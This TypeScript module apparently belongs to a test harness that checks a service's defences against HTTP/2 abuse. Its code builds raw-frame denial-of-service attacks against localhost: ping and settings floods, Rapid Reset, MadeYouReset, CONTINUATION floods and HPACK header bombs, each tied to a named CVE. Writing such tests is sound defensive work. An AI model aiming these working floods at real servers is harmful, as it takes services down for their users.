/** Abuse by HTTP/2, in raw frames. Each runs in a process of its own, and closes what it opened. */
import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { FLAG, FRAME, FRAME_HEAD_BYTES, frame, headerBlocks } from "../../bench/http2-frames.ts";

/** What came back on all connections together, which the service ended. */
export interface Seen {
  readonly opened: number;
  /** Error codes of GOAWAY and of RST_STREAM frames, and how often each came. */
  readonly goaways: Record<string, number>;
  readonly resets: Record<string, number>;
  /** Frames of the flood that were sent before the end, per connection at most. */
  readonly sentMax: number;
}

interface Target {
  readonly port: number;
  readonly connections: number;
}

const PREFACE = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
const PRIORITY = 2;
const CONTINUATION = 9;
const SETTINGS_ACK = frame(FRAME.settings, FLAG.ack, 0, Buffer.alloc(0));
const PING_ACK = frame(FRAME.ping, FLAG.ack, 0, Buffer.alloc(8));
/** How many frames of a flood are written at once. */
const WRITE_FRAMES = 500;

const u32 = (...values: number[]) => {
  const bytes = Buffer.alloc(4 * values.length);
  values.forEach((value, index) => {
    bytes.writeUInt32BE(value, 4 * index);
  });
  return bytes;
};

const blocks = (method: string, path: string, more: Readonly<Record<string, string>> = {}) =>
  headerBlocks({ ":method": method, ":path": path, ":scheme": "http", ":authority": "x", ...more });

class Line {
  readonly socket: Socket;
  readonly closed: Promise<void>;
  readonly goaways: number[] = [];
  readonly resets: number[] = [];
  /** Leaves every PING without an answer. */
  isDead = false;
  #rest: Buffer = Buffer.alloc(0);

  private constructor(socket: Socket) {
    this.socket = socket;
    this.closed = new Promise((resolve) => socket.once("close", () => resolve()));
    socket.on("error", () => {});
    socket.on("data", (chunk: Buffer) => this.#read(chunk));
  }

  static async open(port: number, settings: Uint8Array = Buffer.alloc(0)): Promise<Line> {
    const line = new Line(connect({ port, host: "127.0.0.1", noDelay: true }));
    await once(line.socket, "connect");
    line.socket.write(Buffer.concat([PREFACE, frame(FRAME.settings, 0, 0, settings), SETTINGS_ACK]));
    return line;
  }

  /** Writes, and waits while the service does not read. Resolves to false once the connection has ended. */
  async write(bytes: Buffer): Promise<boolean> {
    if (!this.socket.writable) return false;
    await new Promise<void>((resolve) => this.socket.write(bytes, () => resolve()));
    return this.socket.writable;
  }

  #read(chunk: Buffer): void {
    this.#rest = Buffer.concat([this.#rest, chunk]);
    for (;;) {
      if (this.#rest.length < FRAME_HEAD_BYTES) return;
      const end = FRAME_HEAD_BYTES + this.#rest.readUIntBE(0, 3);
      if (this.#rest.length < end) return;
      const type = this.#rest.readUInt8(3);
      if (type === FRAME.goAway) this.goaways.push(this.#rest.readUInt32BE(FRAME_HEAD_BYTES + 4));
      const isAsked = type === FRAME.ping && (this.#rest.readUInt8(4) & FLAG.ack) === 0;
      if (isAsked && !this.isDead && this.socket.writable) this.socket.write(PING_ACK);
      if (type === FRAME.resetStream) this.resets.push(this.#rest.readUInt32BE(FRAME_HEAD_BYTES));
      this.#rest = this.#rest.subarray(end);
    }
  }
}

function count(codes: readonly number[]): Record<string, number> {
  const counts: Record<string, number> = {};
  for (const code of codes) counts[code] = (counts[code] ?? 0) + 1;
  return counts;
}

/** Runs the same on every connection; `abuse` resolves to how many frames it sent. Waits for the service to end all. */
async function onEach(target: Target, abuse: (line: Line) => Promise<number>, settings?: Uint8Array): Promise<Seen> {
  const each = async () => {
    const line = await Line.open(target.port, settings);
    const sent = await abuse(line);
    await line.closed;
    return { line, sent };
  };
  const lines = await Promise.all(Array.from({ length: target.connections }, each));
  return {
    opened: lines.length,
    goaways: count(lines.flatMap(({ line }) => line.goaways)),
    resets: count(lines.flatMap(({ line }) => line.resets)),
    sentMax: Math.max(...lines.map(({ sent }) => sent)),
  };
}

/** Sends what `next` makes until the connection ends, at most `frames` of it; then it waits for the end, or makes it. */
async function flood(line: Line, { frames, waits = false }: Flood, next: (index: number) => Buffer): Promise<number> {
  let sent = 0;
  while (sent < frames) {
    const pieces = Array.from({ length: WRITE_FRAMES }, (_, index) => next(sent + index));
    if (!(await line.write(Buffer.concat(pieces)))) return sent;
    sent += WRITE_FRAMES;
  }
  if (!waits) line.socket.end();
  return sent;
}

/** With `waits` the service has to end the connections. */
type Flood = Target & { readonly frames: number; readonly waits?: boolean };

export const floodPings = (args: Flood): Promise<Seen> =>
  onEach(args, (line) => flood(line, args, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))));

export const floodSettings = (args: Flood): Promise<Seen> =>
  onEach(args, (line) => flood(line, args, () => frame(FRAME.settings, 0, 0, Buffer.alloc(0))));

export const floodPriorities = (args: Flood): Promise<Seen> =>
  onEach(args, (line) => flood(line, args, () => frame(PRIORITY, 0, 1, Buffer.concat([u32(0), Buffer.of(15)]))));

export const floodWindowUpdates = (args: Flood): Promise<Seen> =>
  onEach(args, (line) => flood(line, args, () => frame(FRAME.windowUpdate, 0, 0, u32(1))));

const streamId = (index: number) => 2 * index + 1;

/** CVE-2023-44487: requests that are reset as soon as they are made. */
export async function resetRapidly(args: Flood & { path: string; key: string }): Promise<Seen> {
  const { first, again } = blocks("GET", args.path, { authorization: `Bearer ${args.key}` });
  return await onEach(args, (line) =>
    flood(line, args, (index) => {
      const id = streamId(index);
      const headers = frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, id, index === 0 ? first : again);
      return Buffer.concat([headers, frame(FRAME.resetStream, 0, id, u32(8))]);
    }),
  );
}

/** CVE-2025-8671: requests that the service is made to reset, by a window update of nothing. */
export async function haveReset(args: Flood & { path: string; key: string }): Promise<Seen> {
  const { first, again } = blocks("GET", args.path, { authorization: `Bearer ${args.key}` });
  return await onEach(args, (line) =>
    flood(line, args, (index) => {
      const id = streamId(index);
      const headers = frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, id, index === 0 ? first : again);
      return Buffer.concat([headers, frame(FRAME.windowUpdate, 0, id, u32(0))]);
    }),
  );
}

/** CVE-2019-9518: a body of nothing but empty frames. */
export async function floodEmptyData(args: Flood): Promise<Seen> {
  const { first } = blocks("POST", "/api/v1/webhooks");
  return await onEach(args, (line) =>
    flood(line, args, (index) =>
      index === 0 ? frame(FRAME.headers, FLAG.endHeaders, 1, first) : frame(FRAME.data, 0, 1, Buffer.alloc(0)),
    ),
  );
}

/** CVE-2024-28182: a header list that goes on for ever. */
export async function continueForever(args: Flood): Promise<Seen> {
  const { first, again } = blocks("GET", "/healthz");
  return await onEach(args, (line) =>
    flood(line, args, (index) =>
      index === 0 ? frame(FRAME.headers, FLAG.endStream, 1, first) : frame(CONTINUATION, 0, 1, again.subarray(0, 1)),
    ),
  );
}

/** CVE-2016-6581: a small header block that stands for a large list. */
export async function bombHeaders(args: Flood): Promise<Seen> {
  const { first } = blocks("GET", "/healthz", { x: "y".repeat(126) });
  const bomb = Buffer.concat([first, Buffer.alloc(8_000, 0x80 | 62)]);
  return await onEach(args, (line) =>
    flood(line, args, (index) => frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(index), bomb)),
  );
}

/** Asks for large answers with a window of nothing, takes none of them, and goes when all have been reset. */
export async function stallWindows(args: Target & { streams: number; path: string; key: string }): Promise<Seen> {
  const { first, again } = blocks("GET", args.path, { authorization: `Bearer ${args.key}` });
  const noWindow = Buffer.concat([Buffer.from([0, 4]), u32(0)]);
  const ask = async (line: Line) => {
    for (let index = 0; index < args.streams; index += 1) {
      const block = index === 0 ? first : again;
      await line.write(frame(FRAME.headers, FLAG.endHeaders | FLAG.endStream, streamId(index), block));
    }
    while (line.socket.writable && line.resets.length < args.streams) {
      await Promise.race([once(line.socket, "data").catch(() => {}), line.closed]);
    }
    line.socket.end();
    return args.streams;
  };
  return await onEach(args, ask, noWindow);
}

/** Sessions that never ask for anything: until the service has ended all of them. */
export const stayIdle = (args: Target): Promise<Seen> => onEach(args, async () => 0);

/** Sessions with a request whose body never comes, and that leave every PING without an answer. */
export async function playDead(args: Target): Promise<Seen> {
  const { first } = blocks("POST", "/api/v1/webhooks/receive/00000000-0000-7000-8000-000000000000");
  return await onEach(args, async (line) => {
    line.isDead = true;
    await line.write(frame(FRAME.headers, FLAG.endHeaders, 1, first));
    return 1;
  });
}
